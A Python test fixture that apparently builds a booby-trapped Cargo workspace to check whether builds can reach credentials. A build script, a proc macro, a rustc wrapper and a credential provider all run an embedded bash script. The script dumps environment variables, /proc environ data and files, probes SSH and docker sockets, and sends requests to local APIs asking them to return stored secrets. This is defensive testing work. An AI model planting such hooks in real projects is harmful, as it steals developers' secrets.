"""A workspace whose every piece of code hunts for credentials: build script, macro, rustc's wrapper, provider.

What a hunter finds it writes into a file `hunt-WHO-…` in its directory for temporary files, where a test finds it.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from pathlib import Path

from tests.kit.hangar import FILES, commit_all, repository

HUNT = """#!/bin/bash
exec 2>/dev/null
out=$(mktemp "${{TMPDIR:-/tmp}}/hunt-$1-XXXXXX")
{{
    env
    cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'
    for place in {places}; do
        find "$place" -type f -size -200k ! -name 'hunt-*' -exec cat {{}} +
    done
    for socket in {sockets} "$SSH_AUTH_SOCK" /run/docker.sock /var/run/docker.sock; do
        [ -S "$socket" ] && echo "there is the socket $socket"
    done
    for port in {ports}; do
        exec 3<>"/dev/tcp/127.0.0.1/$port" || continue
        echo "reached the port $port"
        body='{{"include_secrets": true}}'
        printf 'POST /api/block_documents/filter HTTP/1.0\\r\\nHost: 127.0.0.1:%s\\r\\n' "$port" >&3
        printf 'Content-Type: application/json\\r\\nContent-Length: %s\\r\\n\\r\\n%s' "${{#body}}" "$body" >&3
        timeout 5 cat <&3
    done
}} >"$out"
exit 0
"""
BUILD_SCRIPT = """fn main() {
    let hunt = concat!(env!("CARGO_MANIFEST_DIR"), "/hunt.sh");
    std::process::Command::new("bash").args([hunt, "build-script"]).status().unwrap();
}
"""
MACRO = """use proc_macro::TokenStream;

#[proc_macro]
pub fn hunt(input: TokenStream) -> TokenStream {
    let hunt = concat!(env!("CARGO_MANIFEST_DIR"), "/hunt.sh");
    std::process::Command::new("bash").args([hunt, "macro"]).status().unwrap();
    input
}
"""
WRAPPER = '#!/bin/bash\nbash "$(dirname "$0")/units/hunt.sh" wrapper\nexec "$@"\n'
PROVIDER = '#!/bin/bash\nbash "$(dirname "$0")/units/hunt.sh" provider\nexit 1\n'
CONFIGURATION = (
    '[build]\nrustc-wrapper = "./wrapper.sh"\n\n[registry]\nglobal-credential-providers = ["./provider.sh"]\n'
)
HUNTERS = ("build-script", "macro", "wrapper")
"""The provider runs only where a registry asks for a credential to be read."""


def hunting_workspace(place: Path, places: Iterable[Path], sockets: Iterable[Path], ports: Iterable[int]) -> Path:
    """The repository. `places`, `sockets` and `ports` are where its hunters look besides."""
    quoted = (" ".join(f"'{each}'" for each in group) for group in (places, sockets, ports))
    hunt = HUNT.format(**dict(zip(("places", "sockets", "ports"), quoted, strict=True)))
    common = 'version = "0.4.0"\nedition = "2021"\ndescription = "A crate."\nlicense = "MIT"\n'
    derive = '[[package]]\nname = "hangar-derive"\nversion = "0.4.0"\n\n'
    need = 'hangar-derive = { path = "../derive", version = "0.4.0" }\n'
    changes: Mapping[str, str] = {
        "Cargo.toml": FILES["Cargo.toml"].replace('"cli", ', '"cli", "derive", '),
        "Cargo.lock": FILES["Cargo.lock"]
        .replace('\n "hangar-units"', '\n "hangar-derive",\n "hangar-units"')
        .replace('[[package]]\nname = "hangar-units"', f'{derive}[[package]]\nname = "hangar-units"'),
        "cli/Cargo.toml": FILES["cli/Cargo.toml"] + need,
        "cli/src/main.rs": f"hangar_derive::hunt!();\n\n{FILES['cli/src/main.rs']}",
        "derive/Cargo.toml": f'[package]\nname = "hangar-derive"\n{common}\n[lib]\nproc-macro = true\n',
        "derive/src/lib.rs": MACRO,
        "derive/hunt.sh": hunt,
        "units/hunt.sh": hunt,
        "units/build.rs": BUILD_SCRIPT,
        ".cargo/config.toml": CONFIGURATION,
        "wrapper.sh": WRAPPER,
        "provider.sh": PROVIDER,
    }
    source = repository(place, changes)
    for program in ("wrapper.sh", "provider.sh"):
        (source / program).chmod(0o755)
    commit_all(source)
    return source


def hunts_below(home: Path) -> dict[str, list[Path]]:
    """By hunter, the files in which it wrote down what it found."""
    found: dict[str, list[Path]] = {}
    for file in sorted(home.rglob("hunt-*")):
        found.setdefault(file.name.removeprefix("hunt-").rpartition("-")[0], []).append(file)
    return found
